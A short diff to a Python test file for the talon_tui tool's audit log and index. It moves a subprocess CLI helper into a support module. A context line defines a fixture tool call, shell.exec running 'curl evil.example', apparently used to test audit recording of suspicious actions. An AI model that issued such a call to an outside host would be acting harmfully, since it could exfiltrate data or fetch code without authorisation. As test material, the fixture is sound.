@@ -17,6 +17,7 @@ from pathlib import Path
 
 import orjson
 import pytest
+from support.pipe import run_talon as talon
 
 from talon_tui.engine.audit.index import AuditIndex, query
 from talon_tui.engine.audit.log import AuditLog
@@ -26,17 +27,6 @@ from talon_tui.engine.engine import Engine
 
 ROOT = Path(__file__).resolve().parents[3]
 HIDDEN = {"tool": "shell.exec", "params": {"argv": ["curl", "evil.example"]}}
-
-
-def talon(data: Path, *argv: str) -> subprocess.CompletedProcess:
-    env = dict(os.environ, PYTHONPATH=str(ROOT))
-    return subprocess.run(
-        [sys.executable, "-m", "talon_tui.cli", *argv, "--data-dir", str(data)],
-        capture_output=True,
-        text=True,
-        env=env,
-        timeout=120,
-    )
 
 
 def record(data: Path) -> int:
